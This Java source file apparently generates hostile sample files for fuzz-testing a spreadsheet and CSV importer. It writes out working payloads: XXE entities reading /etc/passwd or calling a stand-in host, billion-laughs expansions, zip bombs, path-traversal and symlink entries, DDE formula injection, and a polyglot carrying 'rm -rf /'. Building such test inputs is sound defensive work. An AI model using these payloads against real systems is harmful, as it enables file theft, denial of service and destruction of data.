package constancia.app.packaged;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

/** Files that nobody should send, and real ones with a few bytes wrong. The same seed gives the same ones. */
final class HostileFiles {

    private static final String SHEET = "xl/worksheets/sheet1.xml";
    private static final List<String> PARTS = List.of(SHEET, "xl/workbook.xml", "xl/sharedStrings.xml", "xl/styles.xml", "[Content_Types].xml", "_rels/.rels", "xl/_rels/workbook.xml.rels");
    private static final String XMLNS = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"";
    private static final String OUT_THERE = "http://198.51.100.7/x";

    private final Path folder;
    private final byte[] good;
    private int made;

    HostileFiles(Path folder, Path workbook) throws IOException {
        this.folder = folder;
        this.good = Files.readAllBytes(workbook);
    }

    int made() {
        return made;
    }

    /** The crafted ones. */
    void craft() throws IOException {
        for (var part : PARTS) {
            var name = part.replaceAll("[^a-zA-Z]", "-");
            xlsx("laughs-" + name, Map.of(part, "<!DOCTYPE l [<!ENTITY a 'ha'>" + laughs() + "]><x>&z9;</x>"));
            xlsx("quadratic-" + name, Map.of(part, "<!DOCTYPE l [<!ENTITY a '" + "a".repeat(100_000) + "'>]><x>" + "&a;".repeat(40_000) + "</x>"));
            xlsx("xxe-file-" + name, Map.of(part, "<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><x>&x;</x>"));
            xlsx("xxe-http-" + name, Map.of(part, "<!DOCTYPE x [<!ENTITY x SYSTEM '" + OUT_THERE + "'>]><x>&x;</x>"));
            xlsx("xxe-dtd-" + name, Map.of(part, "<!DOCTYPE x SYSTEM '" + OUT_THERE + ".dtd'><x/>"));
            xlsx("xxe-parameter-" + name, Map.of(part, "<!DOCTYPE x [<!ENTITY % p SYSTEM '" + OUT_THERE + "'>%p;]><x/>"));
            xlsx("xinclude-" + name, Map.of(part, "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"" + OUT_THERE + "\" parse=\"text\"/></x>"));
            xlsx("schema-" + name, Map.of(part, "<x xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"a " + OUT_THERE + "\"/>"));
            xlsx("deep-" + name, Map.of(part, "<a>".repeat(200_000)));
            xlsx("many-attributes-" + name, Map.of(part, "<a " + attributes(200_000) + "/>"));
            xlsx("long-name-" + name, Map.of(part, "<" + "a".repeat(5_000_000) + "/>"));
            xlsx("not-xml-" + name, Map.of(part, "\u0000\u0001\ufffe"));
            xlsx("utf-7-" + name, Map.of(part, "<?xml version='1.0' encoding='UTF-7'?>+ADw-x/+AD4-"));
            xlsx("unclosed-" + name, Map.of(part, "<x><![CDATA[" + "a".repeat(1_000_000)));
            xlsx("empty-" + name, Map.of(part, ""));
            swollen("swollen-" + name, part, 60);
            swollen("huge-" + name, part, 250);
        }
        for (var dimension : List.of("A1:XFD1048576", "A1:ZZZZZZ99999999", "A1", "XFD1048576:A1", "A0:A-1", "")) {
            sheet("dimension-" + dimension.hashCode(), "<dimension ref=\"" + dimension + "\"/><sheetData/>");
        }
        for (var cell : List.of("XFD1048576", "ZZZZZZZ1", "A2147483648", "A0", "1A", "A-1", "A99999999999999999999", "")) {
            sheet("cell-" + cell.hashCode(), "<sheetData><row r=\"1\"><c r=\"" + cell + "\"><v>1</v></c></row></sheetData>");
            sheet("row-" + cell.hashCode(), "<sheetData><row r=\"" + cell.replaceAll("[A-Z]", "") + "\"><c><v>1</v></c></row></sheetData>");
            sheet("merged-" + cell.hashCode(), "<sheetData/><mergeCells><mergeCell ref=\"A1:" + cell + "\"/></mergeCells>");
            sheet("columns-" + cell.hashCode(), "<cols><col min=\"1\" max=\"" + cell.replaceAll("[A-Z]", "") + "\" hidden=\"1\"/></cols><sheetData/>");
        }
        for (var formula : List.of("HYPERLINK(\"" + OUT_THERE + "\")", "WEBSERVICE(\"" + OUT_THERE + "\")", "cmd|'/c calc'!A1", "'[http://198.51.100.7/x.xlsx]S'!A1", "A1", "INDIRECT(\"A\"&amp;1)", "(".repeat(10_000))) {
            sheet("formula-" + formula.hashCode(), "<sheetData><row r=\"1\"><c r=\"A1\"><f>" + formula + "</f><v>1</v></c><c r=\"B1\"><f>" + formula + "</f></c></row></sheetData>");
        }
        for (var value : List.of("999999999", "-1", "2147483648", "x", "1e9", "")) {
            sheet("string-" + value.hashCode(), "<sheetData><row r=\"1\"><c r=\"A1\" t=\"s\"><v>" + value + "</v></c></row></sheetData>");
            sheet("style-" + value.hashCode(), "<sheetData><row r=\"1\"><c r=\"A1\" s=\"" + value + "\"><v>1</v></c></row></sheetData>");
            xlsx("count-" + value.hashCode(), Map.of("xl/sharedStrings.xml", "<sst " + XMLNS + " count=\"" + value + "\" uniqueCount=\"" + value + "\"><si><t>a</t></si></sst>"));
        }
        sheet("long-cell", "<sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>" + random(5_000_000) + "</t></is></c></row></sheetData>");
        sheet("merged-everywhere", "<sheetData/><mergeCells>" + "<mergeCell ref=\"A1:XFD1048576\"/>".repeat(60_000) + "</mergeCells>");
        xlsx("many-strings", Map.of("xl/sharedStrings.xml", "<sst " + XMLNS + ">" + strings(400_000) + "</sst>"));
        xlsx("one-string-many-runs", Map.of("xl/sharedStrings.xml", "<sst " + XMLNS + "><si>" + "<r><t>aaaaaaaa</t></r>".repeat(200_000) + "</si></sst>"));
        xlsx("relationship-out", Map.of("xl/_rels/workbook.xml.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"t/worksheet\" TargetMode=\"External\" Target=\"" + OUT_THERE + "\"/></Relationships>"));
        xlsx("relationship-up", Map.of("xl/_rels/workbook.xml.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"t/worksheet\" Target=\"../../../../etc/passwd\"/></Relationships>"));
        for (var name : List.of("../../../../tmp/afuera", "/etc/cron.d/x", "..\\..\\x", "C:\\x", "a\u0000b", "xl/../xl/workbook.xml", "con", "./././x", "a".repeat(60_000))) {
            xlsx("name-" + name.hashCode(), Map.of(name, "x"));
        }
        zips();
        texts();
        magic();
    }

    private void zips() throws IOException {
        file("entries-300000.xlsx", zip(300_000, new byte[0]));
        file("overlapping.xlsx", overlapping(4 * 1024, 20 << 20));
        file("overlapping-few.xlsx", overlapping(200, 20 << 20));
        var inner = zip(1, new byte[50 << 20]);
        for (int depth = 0; depth < 6; depth++) {
            var outer = new LinkedHashMap<String, byte[]>();
            for (int i = 0; i < 16; i++) {
                outer.put("lib " + i + ".zip", inner);
            }
            inner = zip(outer);
            file("nested-" + depth + ".xlsx", inner);
        }
        file("symlink.xlsx", symlink());
        for (int i = 0; i < 12; i++) {
            var cut = Arrays.copyOf(good, good.length * (i + 1) / 13);
            file("cut-" + i + ".xlsx", cut);
            var longer = Arrays.copyOf(good, good.length + 1 + i * 7_000);
            file("longer-" + i + ".xlsx", longer);
        }
        for (int at : new int[] {4, 8, 10, 12, 16, 20}) {
            var end = good.clone();
            ByteBuffer.wrap(end).order(ByteOrder.LITTLE_ENDIAN).putShort(end.length - 22 + at, (short) 0xFFFF);
            file("end-" + at + ".xlsx", end);
        }
    }

    private void texts() throws IOException {
        var heading = "No.,Acciones principales,T1,Responsable\n";
        file("megabyte-cell.csv", (heading + "1," + "a".repeat(8 << 20) + ",X,MJSP\n").getBytes());
        file("endless-quote.csv", (heading + "1,\"" + "a,\n".repeat(2_000_000)).getBytes());
        file("quotes.csv", (heading + "\"".repeat(6_000_000)).getBytes());
        file("nul.csv", (heading + "1,a\u0000b,X,MJSP\n").getBytes());
        file("only-nul.csv", new byte[1 << 20]);
        file("lines.csv", (heading + "\n".repeat(15_000_000)).getBytes());
        file("commas.csv", (heading + ",".repeat(15_000_000)).getBytes());
        file("one-line.csv", "a".repeat(19 << 20).getBytes());
        file("many-rows.csv", (heading + "1,a,X,MJSP\n".repeat(1_000_000)).getBytes());
        file("formulas.csv", (heading + "1,=cmd|'/c calc'!A1,X,@SUM(1)\n").getBytes());
        file("utf-16.csv", heading.getBytes(StandardCharsets.UTF_16));
        file("utf-32.csv", heading.getBytes("UTF-32"));
        file("invalid.csv", new byte[] {'a', ',', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE, '\n'});
        file("names.csv", (heading + ("1,x,X,\"" + "a, ".repeat(10_000) + "\"\n").repeat(30)).getBytes());
        file("blank-cells.csv", (heading + (" ".repeat(30_000) + ",").repeat(600)).getBytes());
        file("empty.csv", new byte[0]);
    }

    /** Something else under that name, or two things in one. */
    private void magic() throws IOException {
        var starts = Map.of("pdf", "%PDF-1.7\n", "html", "<html><script>alert(1)</script>", "png", "\u0089PNG\r\n", "exe", "MZ\u0090", "elf", "\u007fELF", "gif", "GIF89a", "rtf", "{\\rtf1", "sh", "#!/bin/sh\nrm -rf /\n", "xml", "<?xml version='1.0'?><!DOCTYPE x SYSTEM '" + OUT_THERE + "'><x/>",
                "ole", "\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1");
        for (var start : starts.entrySet()) {
            var bytes = start.getValue().getBytes(StandardCharsets.ISO_8859_1);
            file("is-" + start.getKey() + ".xlsx", bytes);
            file("is-" + start.getKey() + ".csv", bytes);
            var both = Arrays.copyOf(bytes, bytes.length + good.length);
            System.arraycopy(good, 0, both, bytes.length, good.length);
            file("polyglot-" + start.getKey() + ".xlsx", both);
        }
        var noise = new byte[3 << 20];
        new Random(1).nextBytes(noise);
        file("noise.xlsx", noise);
        file("noise.csv", noise);
        file("too-large.xlsx", new byte[24 << 20]);
    }

    /** Real workbooks with some bytes other than they were. */
    void mutate(List<Path> workbooks, int upTo, long seed) throws IOException {
        var random = new Random(seed);
        while (made < upTo) {
            var mutant = Files.readAllBytes(workbooks.get(random.nextInt(workbooks.size())));
            for (int flips = random.nextInt(1, 30); flips > 0; flips--) {
                mutant[random.nextInt(mutant.length)] = (byte) random.nextInt(256);
            }
            file("mutant-" + made + ".xlsx", random.nextInt(5) == 0 ? Arrays.copyOf(mutant, random.nextInt(mutant.length)) : mutant);
        }
    }

    private void file(String name, byte[] content) throws IOException {
        Files.write(folder.resolve(name), content);
        made++;
    }

    private void sheet(String name, String content) throws IOException {
        xlsx(name, Map.of(SHEET, "<worksheet " + XMLNS + ">" + content + "</worksheet>"));
    }

    /** The good workbook with these parts in the place of its own. */
    private void xlsx(String name, Map<String, String> parts) throws IOException {
        var all = new LinkedHashMap<String, byte[]>();
        try (var in = new ZipInputStream(new ByteArrayInputStream(good))) {
            for (var entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                all.put(entry.getName(), in.readAllBytes());
            }
        }
        parts.forEach((part, content) -> all.put(part, content.getBytes(StandardCharsets.UTF_8)));
        file(name + ".xlsx", zip(all));
    }

    /** A part of so many megabytes of blanks. */
    private void swollen(String name, String part, int megabytes) throws IOException {
        var bytes = new ByteArrayOutputStream();
        var blank = " ".repeat(1 << 20).getBytes();
        try (var in = new ZipInputStream(new ByteArrayInputStream(good)); var out = new ZipOutputStream(bytes)) {
            for (var entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                out.putNextEntry(new ZipEntry(entry.getName()));
                for (int i = 0; i < (entry.getName().equals(part) ? megabytes : 0); i++) {
                    out.write(blank);
                }
                in.transferTo(out);
            }
        }
        file(name + ".xlsx", bytes.toByteArray());
    }

    private static byte[] zip(int entries, byte[] content) throws IOException {
        var all = new LinkedHashMap<String, byte[]>();
        for (int i = 0; i < entries; i++) {
            all.put(Integer.toString(i, 36), content);
        }
        return zip(all);
    }

    private static byte[] zip(Map<String, byte[]> entries) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var out = new ZipOutputStream(bytes)) {
            for (var entry : entries.entrySet()) {
                out.putNextEntry(new ZipEntry(entry.getKey()));
                out.write(entry.getValue());
            }
        }
        return bytes.toByteArray();
    }

    /** Many entries over one and the same packed content: some kilobytes that claim gigabytes. */
    private static byte[] overlapping(int entries, int size) {
        var blank = new byte[size];
        var deflater = new Deflater(9, true);
        deflater.setInput(blank);
        deflater.finish();
        var packed = new byte[size / 500];
        int length = deflater.deflate(packed);
        deflater.end();
        var crc = new CRC32();
        crc.update(blank);
        var name = SHEET.getBytes();
        var zip = ByteBuffer.allocate(30 + name.length + length + entries * (46 + name.length + 8) + 22).order(ByteOrder.LITTLE_ENDIAN);
        zip.putInt(0x04034b50).putShort((short) 20).putShort((short) 0).putShort((short) 8).putInt(0).putInt((int) crc.getValue()).putInt(length).putInt(size).putShort((short) name.length).putShort((short) 0);
        zip.put(name).put(packed, 0, length);
        int directory = zip.position();
        for (int i = 0; i < entries; i++) {
            var each = i == 0 ? name : ("%s%08d".formatted(SHEET, i)).getBytes();
            zip.putInt(0x02014b50).putShort((short) 20).putShort((short) 20).putShort((short) 0).putShort((short) 8).putInt(0).putInt((int) crc.getValue()).putInt(length).putInt(size)
                    .putShort((short) each.length).putShort((short) 0).putShort((short) 0).putShort((short) 0).putShort((short) 0).putInt(0).putInt(0).put(each);
        }
        int end = zip.position();
        zip.putInt(0x06054b50).putInt(0).putShort((short) entries).putShort((short) entries).putInt(end - directory).putInt(directory).putShort((short) 0);
        return Arrays.copyOf(zip.array(), zip.position());
    }

    /** An entry that says of itself that it is a link to elsewhere. */
    private static byte[] symlink() throws IOException {
        var zip = zip(Map.of("xl/workbook.xml", "/etc/passwd".getBytes()));
        var bytes = ByteBuffer.wrap(zip).order(ByteOrder.LITTLE_ENDIAN);
        int directory = bytes.getInt(zip.length - 6);
        bytes.put(directory + 5, (byte) 3).putInt(directory + 38, 0xA1FF0000);
        return zip;
    }

    private static String laughs() {
        var laughs = new StringBuilder("<!ENTITY z0 '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'>");
        for (int i = 1; i < 10; i++) {
            laughs.append("<!ENTITY z").append(i).append(" '").append(("&z" + (i - 1) + ";").repeat(10)).append("'>");
        }
        return laughs.toString();
    }

    private static String attributes(int count) {
        var attributes = new StringBuilder();
        for (int i = 0; i < count; i++) {
            attributes.append('a').append(i).append("='' ");
        }
        return attributes.toString();
    }

    private static String strings(int count) {
        var strings = new StringBuilder();
        for (int i = 0; i < count; i++) {
            strings.append("<si><t>").append(i * 7919).append("</t></si>");
        }
        return strings.toString();
    }

    private static String random(int length) {
        return new Random(3).ints(length, 'a', 'z').collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append).toString();
    }
}
